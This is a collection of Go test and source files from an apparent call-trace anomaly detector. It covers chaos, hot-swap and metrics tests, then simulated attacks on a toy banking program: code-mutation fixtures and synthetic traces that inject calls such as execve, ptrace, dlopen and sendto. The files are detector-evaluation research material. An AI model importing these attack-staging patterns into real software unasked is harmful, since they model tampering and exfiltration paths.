		t.Fatalf("CloseContext = %v, want DeadlineExceeded", err)
	}
	if elapsed > time.Second {
		t.Fatalf("CloseContext took %v past a 200ms deadline", elapsed)
	}
	if err := s.Observe(traces[0][0]); err == nil {
		t.Fatal("observe accepted after CloseContext")
	}
	if err := rt.Session("late").Observe(traces[0][0]); !errors.Is(err, ErrClosed) {
		t.Fatalf("new session after CloseContext: %v", err)
	}

	// Unwedge the worker; background shutdown completes and a second close
	// is an immediate no-op.
	close(gate)
	if err := rt.Close(); err != nil {
		t.Fatalf("second close: %v", err)
	}
	checkGoroutines(t, before)
}

// TestObserveAndFlushContextDeadlines bounds Block-policy backpressure and
// flush waits by caller deadlines.
func TestObserveAndFlushContextDeadlines(t *testing.T) {
	p, traces := trainAppH(t)
	gate := make(chan struct{})
	rt := New(p, WithWorkers(1), WithQueueDepth(1),
		WithWorkerHook(faultinject.WorkerGate(gate)))
	s := rt.Session("deadline")

	// First call is taken by the (wedged) worker, second fills the queue.
	if err := s.Observe(traces[0][0]); err != nil {
		t.Fatal(err)
	}
	if err := s.Observe(traces[0][1]); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	if err := s.ObserveContext(ctx, traces[0][2]); !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("blocked ObserveContext = %v, want DeadlineExceeded", err)
	}

	ctx2, cancel2 := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel2()
	if _, err := s.FlushContext(ctx2); !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("blocked FlushContext = %v, want DeadlineExceeded", err)
	}

	close(gate)
	if _, err := s.Flush(); err != nil {
		t.Fatalf("flush after unwedging: %v", err)
	}
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestChaosCombined is the acceptance scenario in one run: a sink that
// panics every 3rd delivery and stalls 100ms, engine panics on victim
// sessions, and a worker crash — healthy sessions must still match the
// sequential Monitor bit-for-bit, CloseContext must meet its deadline, and
// nothing may leak.
func TestChaosCombined(t *testing.T) {
	p, traces := trainAppH(t)
	const sessions = 12
	streams := streamSet(traces, sessions)

	want := make([][]detect.Alert, sessions)
	for i, tr := range streams {
		want[i] = core.NewMonitor(p, nil).ObserveTrace(tr)
	}

	victim := func(id string) bool { return strings.HasSuffix(id, "-victim") }
	name := func(i int) string {
		if i == 2 || i == 7 {
			return fmt.Sprintf("combined-%03d-victim", i)
		}
		return fmt.Sprintf("combined-%03d", i)
	}

	before := stdruntime.NumGoroutine()
	sink := faultinject.NewSink(nil,
		faultinject.PanicEvery(3), faultinject.Latency(100*time.Millisecond))
	engineFault := faultinject.NewEngineFault(faultinject.FaultPanic, 1, victim)
	workerFault := faultinject.NewWorkerFault(name(7), 4)
	rt := New(p,
		WithWorkers(3), WithQueueDepth(64),
		WithAlertFunc(sink.Deliver), WithSinkBuffer(8), WithSinkTimeout(5*time.Millisecond),
		WithJudgeHook(engineFault.Hook),
		WithWorkerHook(workerFault.Hook))

	type result struct {
		alerts []detect.Alert
		err    error
	}
	results := make([]result, sessions)
	var wg sync.WaitGroup
	for i := 0; i < sessions; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			s := rt.Session(name(i))
			for _, c := range streams[i] {
				if err := s.Observe(c); err != nil {
					results[i].err = err
					break
				}
			}
			a, err := s.Close()
			results[i].alerts = a
			if results[i].err == nil {
				results[i].err = err
			}
		}(i)
	}
	wg.Wait()

	for i := 0; i < sessions; i++ {
		if victim(name(i)) {
			if !errors.Is(results[i].err, ErrSessionFailed) {
				t.Errorf("victim %d: err = %v, want ErrSessionFailed", i, results[i].err)
			}
			continue
		}
		if results[i].err != nil {
			t.Fatalf("healthy session %d: %v", i, results[i].err)
		}
		if err := alertsEquivalent(results[i].alerts, want[i]); err != nil {
			t.Errorf("healthy session %d diverged under combined chaos: %v", i, err)
		}
	}

	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
	defer cancel()
	start := time.Now()
	if err := rt.CloseContext(ctx); err != nil {
		t.Fatalf("CloseContext: %v", err)
	}
	if elapsed := time.Since(start); elapsed > 2*time.Second {
		t.Fatalf("CloseContext took %v past its deadline", elapsed)
	}
	st := rt.Stats()
	if st.Quarantined != 2 {
		t.Errorf("Quarantined = %d, want 2", st.Quarantined)
	}
	if st.Panics == 0 {
		t.Errorf("no panics recorded under combined chaos: %v", st)
	}
	if st.ActiveSessions != 0 {
		t.Errorf("ActiveSessions = %d after combined chaos", st.ActiveSessions)
	}
	checkGoroutines(t, before)
	t.Logf("combined chaos stats: %v", st)
}
