package runtime

// Hot-swap suite: proves the profile-generation protocol — in-flight windows
// finish on the generation they started on, sessions upgrade only at trace
// boundaries with continuous alert history, pooled engines are invalidated by
// generation — and the acceptance criterion that under concurrent load with
// repeated SwapProfile calls, every trace completing on a single generation
// is bit-identical to a sequential Monitor over that generation's profile.
// Run under -race (`make race` does).

import (
	"bytes"
	"fmt"
	stdruntime "runtime"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"adprom/internal/core"
	"adprom/internal/detect"
	"adprom/internal/profile"
)

// cloneProfile round-trips p through the versioned codec, yielding an
// independent deep copy whose threshold can be changed without touching p.
func cloneProfile(t *testing.T, p *profile.Profile) *profile.Profile {
	t.Helper()
	var buf bytes.Buffer
	if err := p.Save(&buf); err != nil {
		t.Fatal(err)
	}
	q, err := profile.Load(&buf)
	if err != nil {
		t.Fatal(err)
	}
	return q
}

// shiftSeq returns alerts with off subtracted from every Seq, mapping a
// session's cumulative history back onto the per-trace numbering a fresh
// sequential Monitor produces.
func shiftSeq(alerts []detect.Alert, off int) []detect.Alert {
	out := make([]detect.Alert, len(alerts))
	for i, a := range alerts {
		a.Seq -= off
		out[i] = a
	}
	return out
}

// TestSwapProfileSemantics pins the deterministic contract: a window spanning
// a swap finishes on its starting generation, the upgrade lands exactly at
// the next trace boundary with alert history carried over, and the swap
// surfaces in Stats.
func TestSwapProfileSemantics(t *testing.T) {
	p1, traces := trainAppH(t)
	p2 := cloneProfile(t, p1)
	// Threshold 0 makes every completed window alert under p2 (per-symbol log
	// probabilities are negative), so the two generations are unmistakably
	// distinguishable in their alert output.
	p2.Threshold = 0
	tr := traces[0]

	base1 := core.NewMonitor(p1, nil).ObserveTrace(tr)
	base2 := core.NewMonitor(p2, nil).ObserveTrace(tr)
	if len(base2) <= len(base1) {
		t.Fatalf("baselines indistinct: p1 raises %d alerts, p2 %d", len(base1), len(base2))
	}

	rt := New(p1, WithWorkers(2))
	defer rt.Close()
	if rt.Generation() != 1 || rt.Profile() != p1 {
		t.Fatalf("fresh runtime: gen=%d profile=%p, want 1/%p", rt.Generation(), rt.Profile(), p1)
	}
	if _, err := rt.SwapProfile(nil); err == nil {
		t.Fatal("SwapProfile(nil) succeeded")
	}

	s := rt.Session("a")
	// Empty flush: pins the session's engine to generation 1 before the swap.
	if _, err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	// Start a trace on generation 1, publish generation 2 mid-trace, finish
	// the trace: every one of its windows must score against p1.
	for _, c := range tr[:len(tr)/2] {
		if err := s.Observe(c); err != nil {
			t.Fatal(err)
		}
	}
	gen, err := rt.SwapProfile(p2)
	if err != nil || gen != 2 {
		t.Fatalf("SwapProfile = %d, %v, want 2, nil", gen, err)
	}
	for _, c := range tr[len(tr)/2:] {
		if err := s.Observe(c); err != nil {
			t.Fatal(err)
		}
	}
	hist, err := s.Flush()
	if err != nil {
		t.Fatal(err)
	}
	if g := s.Generation(); g != 1 {
		t.Fatalf("trace spanning the swap scored on generation %d, want 1", g)
	}
	if err := alertsEquivalent(hist, base1); err != nil {
		t.Fatalf("spanning trace diverged from the p1 baseline: %v", err)
	}

	// The boundary upgrade happened as that flush completed: the next trace
	// scores on generation 2, with history and sequence numbering continuous.
	hist2, err := s.ObserveTrace(tr)
	if err != nil {
		t.Fatal(err)
	}
	if g := s.Generation(); g != 2 {
		t.Fatalf("post-boundary trace scored on generation %d, want 2", g)
	}
	if err := alertsEquivalent(hist2[:len(hist)], hist); err != nil {
		t.Fatalf("upgrade did not preserve alert history: %v", err)
	}
	if err := alertsEquivalent(shiftSeq(hist2[len(hist):], len(tr)), base2); err != nil {
		t.Fatalf("post-upgrade trace diverged from the p2 baseline: %v", err)
	}

	st := rt.Stats()
	if st.Generation != 2 || st.Swaps != 1 {
		t.Fatalf("stats: gen=%d swaps=%d, want 2/1", st.Generation, st.Swaps)
	}
	if st.EnginesRetired == 0 {
		t.Fatal("boundary upgrade retired no engine")
	}
	if _, err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := rt.SwapProfile(p1); err == nil {
		t.Fatal("SwapProfile on a closed runtime succeeded")
	}
}

// TestChaosHotSwapBitIdentical is the acceptance criterion: 8 sessions
// replay mixed normal/attacked traces for several passes each while a
// swapper goroutine flips the serving profile between two generations as
// fast as it can. Every pass completes on exactly one generation (sessions
// only upgrade at trace boundaries), and its alerts must be bit-identical to
// a sequential Monitor over that generation's profile — zero panics, zero
// drops, zero quarantines, no goroutine leaks.
func TestChaosHotSwapBitIdentical(t *testing.T) {
	before := stdruntime.NumGoroutine()
	p1, traces := trainAppH(t)
	p2 := cloneProfile(t, p1)
	p2.Threshold = 0 // every window alerts: generations maximally distinct

	const sessions = 8
	const passes = 8
	streams := streamSet(traces, sessions)

	// Per-stream sequential baselines for both generations. Odd generations
	// serve p1 (New starts at 1; the swapper alternates p2, p1, p2, ...).
	base := [2][][]detect.Alert{make([][]detect.Alert, sessions), make([][]detect.Alert, sessions)}
	for i, tr := range streams {
		base[1][i] = core.NewMonitor(p1, nil).ObserveTrace(tr)
		base[0][i] = core.NewMonitor(p2, nil).ObserveTrace(tr)
	}

	rt := New(p1, WithWorkers(4), WithQueueDepth(64))

	stop := make(chan struct{})
	var swapWG sync.WaitGroup
	swapWG.Add(1)
	go func() {
		defer swapWG.Done()
		next := p2
		for {
			select {
			case <-stop:
				return
			default:
			}
			if _, err := rt.SwapProfile(next); err != nil {
				return
			}
			if next == p2 {
				next = p1
			} else {
				next = p2
			}
			time.Sleep(200 * time.Microsecond)
		}
	}()

	var genParity [2]atomic.Uint64 // traces completed on odd/even generations
	errs := make([]error, sessions)
	var wg sync.WaitGroup
	for i := 0; i < sessions; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			s := rt.Session(fmt.Sprintf("swap-%02d", i))
			tr := streams[i]
			offset, prevLen := 0, 0
			for pass := 0; pass < passes; pass++ {
				for _, c := range tr {
					if err := s.Observe(c); err != nil {
						errs[i] = fmt.Errorf("pass %d: %w", pass, err)
						return
					}
				}
				history, err := s.Flush()
				if err != nil {
					errs[i] = fmt.Errorf("pass %d flush: %w", pass, err)
					return
				}
				gen := s.Generation()
				genParity[gen%2].Add(1)
				want := base[gen%2][i]
				if err := alertsEquivalent(shiftSeq(history[prevLen:], offset), want); err != nil {
					errs[i] = fmt.Errorf("pass %d on generation %d diverged from sequential Monitor: %w",
						pass, gen, err)
					return
				}
				offset += len(tr)
				prevLen = len(history)
			}
			if _, err := s.Close(); err != nil {
				errs[i] = err
			}
		}(i)
	}
	wg.Wait()
	close(stop)
	swapWG.Wait()

	for i, err := range errs {
		if err != nil {
			t.Errorf("session %d: %v", i, err)
		}
	}
	st := rt.Stats()
	if st.Swaps == 0 {
		t.Error("no swaps happened; the chaos is vacuous")
	}
	if genParity[0].Load() == 0 || genParity[1].Load() == 0 {
		t.Errorf("traces completed only on one profile (odd=%d even=%d); coverage is vacuous",
			genParity[1].Load(), genParity[0].Load())
	}
	if st.Panics != 0 || st.Quarantined != 0 || st.Dropped != 0 {
		t.Errorf("failure counters moved under swap load: panics=%d quarantined=%d dropped=%d",
			st.Panics, st.Quarantined, st.Dropped)
	}
	if st.EnginesRetired == 0 {
		t.Error("generation churn retired no engines")
	}
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
	checkGoroutines(t, before)
}

// TestPoolRejectsStaleEngines closes a session on generation 1, swaps, and
// checks a new session never receives the stale pooled engine: it scores on
// the new generation from its first call.
func TestPoolRejectsStaleEngines(t *testing.T) {
	p1, traces := trainAppH(t)
	p2 := cloneProfile(t, p1)
	p2.Threshold = 0
	tr := traces[0]

	rt := New(p1, WithWorkers(1))
	defer rt.Close()
	if _, err := rt.Session("old").ObserveTrace(tr); err != nil {
		t.Fatal(err)
	}
	if _, err := rt.Session("old").Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := rt.SwapProfile(p2); err != nil {
		t.Fatal(err)
	}
	hist, err := rt.Session("new").ObserveTrace(tr)
	if err != nil {
		t.Fatal(err)
	}
	if g := rt.Session("new").Generation(); g != 2 {
		t.Fatalf("new session scored on generation %d, want 2", g)
	}
	if err := alertsEquivalent(hist, core.NewMonitor(p2, nil).ObserveTrace(tr)); err != nil {
		t.Fatalf("new session diverged from the p2 baseline: %v", err)
	}
}
