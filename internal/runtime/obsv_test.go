package runtime

import (
	"bytes"
	"errors"
	"fmt"
	"reflect"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"adprom/internal/detect"
	"adprom/internal/metrics"
)

// TestStatsStringGolden pins the full Stats.String rendering with every field
// at a distinct value, so a counter silently dropped from the format string
// fails here rather than disappearing from operators' logs.
func TestStatsStringGolden(t *testing.T) {
	st := Stats{
		Calls:             100,
		Dropped:           3,
		QueueDepth:        7,
		Workers:           4,
		QueueCap:          64,
		ActiveSessions:    2,
		SessionsOpened:    9,
		AvgLatency:        1500 * time.Nanosecond,
		MaxLatency:        2 * time.Millisecond,
		P50Latency:        time.Microsecond,
		P95Latency:        3 * time.Microsecond,
		P99Latency:        9 * time.Microsecond,
		Panics:            1,
		WorkerRestarts:    12,
		Quarantined:       13,
		SinkDropped:       14,
		SinkPanics:        15,
		Generation:        6,
		Swaps:             5,
		EnginesRetired:    16,
		DecisionsRecorded: 11,
		TracesStored:      18,
		TracesSampledOut:  19,
		Shed:              17,
		ShedRate:          0.125,
		EstimatedMissProb: 0.0625,
		ShedEngaged:       true,
		QueueHighWater:    33,
	}
	st.Alerts[int(detect.FlagAnomalous)] = 2
	st.Alerts[int(detect.FlagDL)] = 5
	st.Alerts[int(detect.FlagOutOfContext)] = 1
	st.ChannelAlerts = [metrics.NumChannels]uint64{21, 22, 23}

	want := "calls=100 dropped=3 alerts=8 (anomalous=2 dl=5 ooc=1) " +
		"channels[hmm=21 sql=22 fused=23] " +
		"sessions=2/9 queue=7/4×64 qhw=33 " +
		"avg=1.5µs max=2ms p50=1µs p95=3µs p99=9µs " +
		"panics=1 restarts=12 quarantined=13 sink[dropped=14 panics=15] " +
		"gen=6 swaps=5 retired=16 decisions=11 " +
		"traces[stored=18 sampled_out=19] " +
		"shed[calls=17 rate=0.1250 missp=0.0625 engaged=true]"
	if got := st.String(); got != want {
		t.Errorf("Stats.String() =\n  %q\nwant\n  %q", got, want)
	}
}

// TestStatsStringCoversEveryField perturbs each Stats field via reflection
// and requires the rendering to change: a field added to Stats but not to
// String() fails CI instead of shipping an invisible counter.
func TestStatsStringCoversEveryField(t *testing.T) {
	base := Stats{}
	baseline := base.String()
	typ := reflect.TypeOf(base)
	for i := 0; i < typ.NumField(); i++ {
		f := typ.Field(i)
		st := Stats{}
		v := reflect.ValueOf(&st).Elem().Field(i)
		switch v.Kind() {
		case reflect.Uint64:
			v.SetUint(99)
		case reflect.Int, reflect.Int64:
			v.SetInt(99)
		case reflect.Float64:
			v.SetFloat(0.99)
		case reflect.Bool:
			v.SetBool(true)
		case reflect.Array:
			v.Index(0).SetUint(99) // FlagNormal still feeds AlertTotal
		default:
			t.Fatalf("field %s has unhandled kind %s; extend this test", f.Name, v.Kind())
		}
		if st.String() == baseline {
			t.Errorf("perturbing Stats.%s does not change String(); the field is not surfaced", f.Name)
		}
	}
}

// TestWritePrometheusCoversEveryCounter holds /metrics to the counters
// snapshot: every CountersSnapshot field must be mapped to a family in
// countersMetric, and every mapped family must appear in the rendered
// exposition. Adding a counter without exporting it fails here.
func TestWritePrometheusCoversEveryCounter(t *testing.T) {
	typ := reflect.TypeOf(metrics.CountersSnapshot{})
	for i := 0; i < typ.NumField(); i++ {
		name := typ.Field(i).Name
		if _, ok := countersMetric[name]; !ok {
			t.Errorf("CountersSnapshot.%s has no entry in countersMetric; extend the map and WritePrometheus", name)
		}
	}
	for name := range countersMetric {
		if _, ok := typ.FieldByName(name); !ok {
			t.Errorf("countersMetric maps %q, which is no longer a CountersSnapshot field", name)
		}
	}

	p, traces := trainAppH(t)
	rt := New(p, WithWorkers(2), WithQueueDepth(64))
	defer rt.Close()
	s := rt.Session("prom-test")
	for _, c := range traces[0] {
		if err := s.Observe(c); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := s.Flush(); err != nil {
		t.Fatal(err)
	}

	var buf bytes.Buffer
	if err := rt.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for field, family := range countersMetric {
		if !strings.Contains(out, family) {
			t.Errorf("family %q (CountersSnapshot.%s) missing from /metrics output", family, field)
		}
	}
	for _, extra := range []string{
		"adprom_profile_generation", "adprom_workers",
		"adprom_queue_capacity", "adprom_queue_depth",
		"adprom_decisions_recorded_total", "adprom_decisions_sampled_out_total",
		"adprom_worker_queue_depth", "adprom_shed_rate",
		"adprom_shed_estimated_miss_probability", "adprom_shed_engaged",
		"adprom_shed_decisions_total",
	} {
		if !strings.Contains(out, extra) {
			t.Errorf("gauge %q missing from /metrics output", extra)
		}
	}
	// Every sample line must be `name[{labels}] value` with a parseable value.
	for ln, line := range strings.Split(strings.TrimRight(out, "\n"), "\n") {
		if strings.HasPrefix(line, "#") {
			continue
		}
		sp := strings.LastIndexByte(line, ' ')
		if sp < 0 {
			t.Fatalf("line %d: no value separator: %q", ln+1, line)
		}
		if v := line[sp+1:]; v != "+Inf" {
			if _, err := strconv.ParseFloat(v, 64); err != nil {
				t.Fatalf("line %d: unparseable value %q: %v", ln+1, v, err)
			}
		}
	}
	if !strings.Contains(out, "adprom_calls_total "+strconv.Itoa(len(traces[0]))) {
		t.Errorf("adprom_calls_total does not reflect the %d observed calls:\n%s", len(traces[0]), out)
	}
}

// TestDecisionProvenance is the acceptance test for the provenance ring: an
// alert raised during detection must surface in Decisions() with its full
// context (session, window offset, score vs threshold, flag, generation, and
// the triggering call's label/caller).
func TestDecisionProvenance(t *testing.T) {
	p, traces := trainAppH(t)
	const sessions = 12
	streams := streamSet(traces, sessions)

	rt := New(p,
		WithWorkers(4), WithQueueDepth(64),
		WithDecisionLog(4096, 1)) // record everything: the assertions are exact
	defer rt.Close()

	var wg sync.WaitGroup
	wantAlerts := make([]int, sessions)
	for i := 0; i < sessions; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			s := rt.Session(fmt.Sprintf("s%02d", i))
			for _, c := range streams[i] {
				if err := s.Observe(c); err != nil {
					t.Errorf("session %d: %v", i, err)
					return
				}
			}
			alerts, err := s.Close()
			if err != nil {
				t.Errorf("session %d close: %v", i, err)
				return
			}
			wantAlerts[i] = len(alerts)
		}(i)
	}
	wg.Wait()

	var total int
	for _, n := range wantAlerts {
		total += n
	}
	if total == 0 {
		t.Fatal("no alerts raised; the provenance check is vacuous")
	}

	ds := rt.Decisions(0)
	if len(ds) == 0 {
		t.Fatal("decision ring is empty")
	}
	flagged := map[string]int{}
	for _, d := range ds {
		if d.Session == "" || d.Generation == 0 {
			t.Fatalf("decision missing identity: %+v", d)
		}
		if d.UnixNanos == 0 {
			t.Fatalf("decision missing the op timestamp: %+v", d)
		}
		if !d.Flagged {
			if d.Flag != detect.FlagNormal.String() {
				t.Fatalf("unflagged decision carries flag %q", d.Flag)
			}
			continue
		}
		flagged[d.Session]++
		if d.Flag == detect.FlagNormal.String() {
			t.Fatalf("flagged decision carries the Normal flag: %+v", d)
		}
		if d.Label == "" || d.Caller == "" {
			t.Errorf("alert decision lacks the triggering call context: %+v", d)
		}
		if d.Flag != detect.FlagOutOfContext.String() && d.Score > d.Threshold {
			t.Errorf("probability alert scored %g above its threshold %g: %+v", d.Score, d.Threshold, d)
		}
	}
	var gotFlagged int
	for _, n := range flagged {
		gotFlagged += n
	}
	if gotFlagged != total {
		t.Errorf("provenance holds %d alert decisions, want every one of the %d alerts", gotFlagged, total)
	}

	st := rt.Stats()
	if st.DecisionsRecorded != uint64(len(ds)) {
		t.Errorf("Stats.DecisionsRecorded = %d, ring holds %d", st.DecisionsRecorded, len(ds))
	}
	h := rt.Histograms()
	if h.Observe.Count != st.Calls {
		t.Errorf("observe histogram count %d diverged from calls %d", h.Observe.Count, st.Calls)
	}
	if h.Flush.Count == 0 {
		t.Error("flush histogram empty after session closes")
	}
	if st.P50Latency <= 0 || st.P95Latency < st.P50Latency || st.MaxLatency < st.P99Latency {
		t.Errorf("latency percentiles inconsistent: p50=%s p95=%s p99=%s max=%s",
			st.P50Latency, st.P95Latency, st.P99Latency, st.MaxLatency)
	}
}

// TestDecisionLogDisabled checks the kill switch: WithDecisionLog(-1, 0)
// leaves no provenance and costs the hot path nothing.
func TestDecisionLogDisabled(t *testing.T) {
	p, traces := trainAppH(t)
	rt := New(p, WithWorkers(2), WithDecisionLog(-1, 0))
	defer rt.Close()
	s := rt.Session("quiet")
	for _, c := range traces[0] {
		if err := s.Observe(c); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if ds := rt.Decisions(0); len(ds) != 0 {
		t.Errorf("disabled decision log still holds %d records", len(ds))
	}
	if st := rt.Stats(); st.DecisionsRecorded != 0 {
		t.Errorf("DecisionsRecorded = %d with the log disabled", st.DecisionsRecorded)
	}
}

func TestReadyProbe(t *testing.T) {
	p, _ := trainAppH(t)
	rt := New(p)
	if err := rt.Ready(); err != nil {
		t.Errorf("fresh runtime not ready: %v", err)
	}
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
	if err := rt.Ready(); !errors.Is(err, ErrClosed) {
		t.Errorf("closed runtime Ready() = %v, want ErrClosed", err)
	}
}
