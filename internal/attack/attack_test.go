package attack

import (
	"errors"
	"reflect"
	"strings"
	"testing"

	"adprom/internal/collector"
	"adprom/internal/dataset"
	"adprom/internal/ir"
)

func TestInsertStmts(t *testing.T) {
	app := dataset.AppB()
	orig := len(app.Prog.Func("help").Blocks[0].Stmts)
	mutated, err := InsertStmts(app.Prog, "help", 0, 0,
		ir.LibCall{Name: "puts", Args: []ir.Expr{ir.S("pwned")}})
	if err != nil {
		t.Fatalf("InsertStmts: %v", err)
	}
	if got := len(mutated.Func("help").Blocks[0].Stmts); got != orig+1 {
		t.Errorf("mutated stmts = %d, want %d", got, orig+1)
	}
	if got := len(app.Prog.Func("help").Blocks[0].Stmts); got != orig {
		t.Error("mutation leaked into the original program")
	}
	// Position is clamped.
	if _, err := InsertStmts(app.Prog, "help", 0, 99, ir.LibCall{Name: "puts"}); err != nil {
		t.Errorf("clamped insert failed: %v", err)
	}
	if _, err := InsertStmts(app.Prog, "ghost", 0, 0); !errors.Is(err, ErrTarget) {
		t.Errorf("missing function err = %v", err)
	}
	if _, err := InsertStmts(app.Prog, "help", 42, 0); !errors.Is(err, ErrTarget) {
		t.Errorf("missing block err = %v", err)
	}
}

func TestReplaceArgs(t *testing.T) {
	app := dataset.AppB()
	mutated, err := ReplaceArgs(app.Prog, "withdraw", 3, 1, ir.S("x"))
	if err != nil {
		t.Fatalf("ReplaceArgs: %v", err)
	}
	lc := mutated.Func("withdraw").Blocks[3].Stmts[1].(ir.LibCall)
	if len(lc.Args) != 1 {
		t.Errorf("args = %v", lc.Args)
	}
	origLC := app.Prog.Func("withdraw").Blocks[3].Stmts[1].(ir.LibCall)
	if len(origLC.Args) == 1 {
		t.Error("ReplaceArgs mutated the original")
	}
	if _, err := ReplaceArgs(app.Prog, "withdraw", 3, 99); !errors.Is(err, ErrTarget) {
		t.Errorf("missing stmt err = %v", err)
	}
	// Statement 0 of withdraw's entry block is a library call; an Assign
	// would not be. Target a non-call: block 1 statement order starts with
	// CallTo, so use an If-only block instead (block 4 has stmts? use main).
	if _, err := ReplaceArgs(app.Prog, "ghost", 0, 0); !errors.Is(err, ErrTarget) {
		t.Errorf("missing function err = %v", err)
	}
}

// TestAppBAttacksExecute runs every mutated program end to end and checks
// the attack's observable effect on the trace.
func TestAppBAttacksExecute(t *testing.T) {
	app := dataset.AppB()
	baselineByCase := map[string]collector.Trace{}
	for _, tc := range app.TestCases {
		tr, err := app.RunCase(app.Prog, tc, collector.ModeADPROM, nil)
		if err != nil {
			t.Fatalf("baseline %s: %v", tc.Name, err)
		}
		baselineByCase[tc.Name] = tr
	}

	for _, atk := range AppBAttacks() {
		atk := atk
		t.Run(atk.Name, func(t *testing.T) {
			prog, err := atk.Apply(app.Prog)
			if err != nil {
				t.Fatalf("Apply: %v", err)
			}
			cases := atk.Cases
			if cases == nil {
				cases = app.TestCases
			}
			changed := false
			leaky := false
			for _, tc := range cases {
				tr, err := app.RunCase(prog, tc, collector.ModeADPROM, atk.Setup)
				if err != nil {
					t.Fatalf("case %s: %v", tc.Name, err)
				}
				base, haveBase := baselineByCase[tc.Name]
				if !haveBase || !reflect.DeepEqual(base.Labels(), tr.Labels()) {
					changed = true
				}
				for _, c := range tr {
					if len(c.Origins) > 0 && strings.Contains(c.Label, "_Q") {
						leaky = true
					}
				}
			}
			// Attack 3 must change labels (printf→printf_Q) even though the
			// call-name sequence is identical; all attacks change the
			// labelled trace somewhere.
			if !changed {
				t.Error("attack left every labelled trace unchanged")
			}
			if !leaky {
				t.Error("attack produced no TD-labelled output call")
			}
		})
	}
}

// TestAttack3PreservesCallNames verifies the property that makes attack 3
// invisible to CMarkov: the plain call-name sequence is identical to the
// baseline; only the dynamic _Q label differs.
func TestAttack3PreservesCallNames(t *testing.T) {
	app := dataset.AppB()
	var atk Attack
	for _, a := range AppBAttacks() {
		if a.ID == 3 {
			atk = a
		}
	}
	prog, err := atk.Apply(app.Prog)
	if err != nil {
		t.Fatalf("Apply: %v", err)
	}
	tc := dataset.TestCase{Name: "withdraw", Input: []string{"3", "105", "100"}}
	base, err := app.RunCase(app.Prog, tc, collector.ModeADPROM, nil)
	if err != nil {
		t.Fatal(err)
	}
	attacked, err := app.RunCase(prog, tc, collector.ModeADPROM, nil)
	if err != nil {
		t.Fatal(err)
	}
	names := func(tr collector.Trace) []string {
		out := make([]string, len(tr))
		for i, c := range tr {
			out[i] = c.Name
		}
		return out
	}
	if !reflect.DeepEqual(names(base), names(attacked)) {
		t.Errorf("attack 3 changed call names:\n%v\n%v", names(base), names(attacked))
	}
	if reflect.DeepEqual(base.Labels(), attacked.Labels()) {
		t.Error("attack 3 did not change labels")
	}
}

func TestMITMChangesTraceWithoutCodeChange(t *testing.T) {
	app := dataset.AppB()
	atk := AppBMITM()
	tc := atk.Cases[0]
	base, err := app.RunCase(app.Prog, tc, collector.ModeADPROM, nil)
	if err != nil {
		t.Fatal(err)
	}
	hit, err := app.RunCase(app.Prog, tc, collector.ModeADPROM, atk.Setup)
	if err != nil {
		t.Fatal(err)
	}
	if len(hit) <= len(base) {
		t.Errorf("MITM trace (%d calls) not longer than baseline (%d)", len(hit), len(base))
	}
}

func TestSyntheticSequences(t *testing.T) {
	seq := []string{"a", "b", "c", "d", "e", "f", "g", "h"}
	legit := []string{"x", "y", "z"}

	s1 := AS1(seq, legit, 5, 1)
	if len(s1) != len(seq) {
		t.Fatalf("AS1 length %d", len(s1))
	}
	if !reflect.DeepEqual(s1[:3], seq[:3]) {
		t.Errorf("AS1 changed the prefix: %v", s1)
	}
	for _, c := range s1[3:] {
		if c != "x" && c != "y" && c != "z" {
			t.Errorf("AS1 tail has non-legit call %q", c)
		}
	}
	if reflect.DeepEqual(AS1(seq, legit, 5, 1), AS1(seq, legit, 5, 2)) {
		t.Log("different seeds coincided (possible but unlikely)")
	}

	s2 := AS2(seq, 3, 7)
	if len(s2) != len(seq)+3 {
		t.Fatalf("AS2 length %d", len(s2))
	}
	foreign := 0
	for _, c := range s2 {
		switch c {
		case "curl_easy_perform", "dlopen", "ptrace", "execve", "sendto":
			foreign++
		}
	}
	if foreign != 3 {
		t.Errorf("AS2 injected %d foreign calls, want 3", foreign)
	}

	s3 := AS3(seq, 4, 9)
	if len(s3) != len(seq)+4 {
		t.Fatalf("AS3 length %d", len(s3))
	}
	// AS3 only repeats existing calls.
	seen := map[string]bool{}
	for _, c := range seq {
		seen[c] = true
	}
	for _, c := range s3 {
		if !seen[c] {
			t.Errorf("AS3 introduced new call %q", c)
		}
	}
	if AS3(nil, 3, 1) != nil {
		t.Error("AS3(nil) != nil")
	}
	if got := AS1(nil, legit, 5, 1); len(got) != 0 {
		t.Errorf("AS1(nil) = %v", got)
	}
}
