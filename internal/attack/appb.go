package attack

import (
	"adprom/internal/dataset"
	"adprom/internal/interp"
	"adprom/internal/ir"
)

// AppBAttacks returns the five attacks of §V-C instantiated against the
// banking application (the paper found its attack-5 vulnerability in App_b;
// the other four are staged against it too, as it exercises every channel).
//
// Block/statement coordinates refer to dataset.AppB's IR:
//
//	lookupAccount: b5 is the post-loop block (free_result, printf "\n").
//	withdraw:      b3 is the apply block (UPDATE, printf confirmation).
//	statement:     b2 is the row-printing loop body.
//	help:          b0 is its only block.
func AppBAttacks() []Attack {
	return []Attack{
		{
			ID:   1,
			Name: "insert-similar-print",
			Description: "source access: insert into interestReport's modest branch a copy " +
				"of the rich branch's data print — the call-name sequence becomes identical " +
				"to the sibling branch, so only the block-id label differs",
			Mutate: func(p *ir.Program) (*ir.Program, error) {
				// interestReport: b3 is the rich branch (banner + data print),
				// b4 the modest branch (banner only). The inserted data print
